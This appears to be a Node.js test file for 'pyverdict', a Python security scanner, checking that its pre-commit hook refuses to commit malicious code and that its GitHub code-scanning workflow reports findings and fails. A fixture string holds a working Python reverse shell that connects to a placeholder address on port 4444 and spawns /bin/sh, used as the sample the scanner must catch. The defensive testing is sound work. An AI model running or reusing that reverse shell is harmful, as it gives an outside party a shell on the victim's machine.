// The examples for pre-commit and for code scanning, run as they stand there with the package of this build.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';

import { parse } from 'yaml';

import { capture } from '../../scripts/lib/run.mjs';

const root = fileURLToPath(new URL('../..', import.meta.url));
const { version } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
const example = (/** @type {string} */ name) => readFileSync(join(root, 'integrations/ci', name), 'utf8');
const home = mkdtempSync(join(tmpdir(), 'pyverdict-hooks-'));
after(() => rmSync(home, { recursive: true, force: true }));
const packing = await capture('npm', ['pack', '--ignore-scripts', '--pack-destination', home]);
assert.equal(packing.status, 0, packing.all);
const archive = join(home, readdirSync(home).find((name) => name.endsWith('.tgz')) ?? '');

const shell = `import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
`;

/** A repository with these files staged. @param {string} name @param {Record<string, string>} files */
async function repository(name, files) {
  const cwd = join(home, name);
  mkdirSync(cwd);
  for (const [path, text] of Object.entries(files)) writeFileSync(join(cwd, path), text);
  const env = {
    ...{
      GIT_CONFIG_GLOBAL: '/dev/null',
      GIT_CONFIG_NOSYSTEM: '1',
      PRE_COMMIT_HOME: join(home, 'pre-commit'),
    },
    ...{ GIT_AUTHOR_NAME: 'x', GIT_AUTHOR_EMAIL: 'x@example.invalid' },
    ...{ GIT_COMMITTER_NAME: 'x', GIT_COMMITTER_EMAIL: 'x@example.invalid' },
  };
  const run = (/** @type {string} */ command, /** @type {string[]} */ ...args) =>
    capture(command, args, { cwd, env });
  assert.equal((await run('git', 'init', '-q')).status, 0);
  assert.equal((await run('git', 'add', '.')).status, 0);
  return run;
}

test('pre-commit lets no attack be committed', { timeout: 300_000 }, async () => {
  const wanted = `pyverdict@${version}`;
  const given = example('pre-commit-config.yaml');
  assert.ok(given.includes(`'${wanted}'`));
  const run = await repository('commits', {
    '.pre-commit-config.yaml': given.replace(wanted, archive),
    'fine.py': 'def add(a, b):\n    return a + b\n\n\nprint(add(1, 2))\n',
    'notes.txt': shell,
  });
  const preCommit = join(root, 'build/deploy-venv/bin/pre-commit');
  assert.equal((await run(preCommit, 'install')).status, 0);
  const first = await run('git', 'commit', '-q', '-m', 'fine');
  assert.equal(first.status, 0, first.all);
  assert.match(first.all, /PyVerdict\.+Passed/);
  writeFileSync(join(home, 'commits/bad.py'), shell);
  await run('git', 'add', '.');
  const second = await run('git', 'commit', '-q', '-m', 'bad');
  assert.notEqual(second.status, 0, second.all);
  assert.match(second.all, /bad\.py/);
  assert.equal((await run('git', 'log', '--format=%s')).output.trim(), 'fine');
});

test('the code scanning job uploads what it found, and fails after', async () => {
  const { steps } = parse(example('github-code-scanning.yml')).jobs.scan;
  const at = steps.findIndex((/** @type {any} */ { id }) => id === 'scan');
  assert.match(steps[at + 1].uses, /upload-sarif@/);
  assert.equal(steps[at + 1].with.sarif_file, 'pyverdict.sarif');
  assert.deepEqual(steps[at + 2], { if: "steps.scan.outputs.status != '0'", run: 'exit 1' });
  const wanted = `npx --yes pyverdict@${version} `;
  assert.ok(steps[at].run.includes(wanted));
  const command = steps[at].run.replace(wanted, `'${process.execPath}' '${join(root, 'dist/npm/cli.js')}' `);
  for (const [name, text, status, isError] of /** @type {const} */ ([
    ['bad', shell, '1', true],
    ['good', 'print(1)\n', '0', false],
  ])) {
    const cwd = join(home, name);
    mkdirSync(cwd);
    writeFileSync(join(cwd, 'job.py'), text);
    const output = join(home, `${name}.output`);
    // As the runner starts a step of this kind.
    const ran = await capture('bash', ['-e', '-c', command], { cwd, env: { GITHUB_OUTPUT: output } });
    assert.equal(ran.status, 0, ran.all);
    assert.equal(readFileSync(output, 'utf8'), `status=${status}\n`);
    const sarif = JSON.parse(readFileSync(join(cwd, 'pyverdict.sarif'), 'utf8'));
    assert.equal(sarif.version, '2.1.0');
    const levels = sarif.runs[0].results.map((/** @type {any} */ { level }) => level);
    assert.equal(levels.includes('error'), isError, levels.join());
  }
});
